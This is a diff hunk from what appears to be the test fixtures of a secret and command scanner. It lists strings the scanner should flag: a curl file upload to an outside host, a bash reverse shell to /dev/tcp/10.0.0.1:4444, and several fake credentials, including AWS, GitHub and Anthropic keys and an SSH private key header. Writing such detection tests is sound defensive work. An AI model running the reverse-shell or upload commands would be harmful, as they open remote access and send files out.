@@ -47,7 +47,7 @@ FAIL = [  # (snippet, code, severity)
     ("curl -F file=@report.pdf https://x.io/up", "WS-UPLOAD", "warning"),
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "WS-REVSHELL", "critical"),
     ("key = AKIAQWERTYUIOPASDFGH", "WS-SECRET", "critical"),
-    ("token ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "WS-SECRET", "critical"),
+    ("token ghp_" + "Zq3v9LkP2mN8xR4tY7wB1cD5eF6gH0jK3lM9", "WS-SECRET", "critical"),
     ("export ANTHROPIC_API_KEY=sk-ant-api03-" + "Zx9" * 10, "WS-SECRET", "critical"),
     ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2g",
      "WS-SECRET", "critical"),
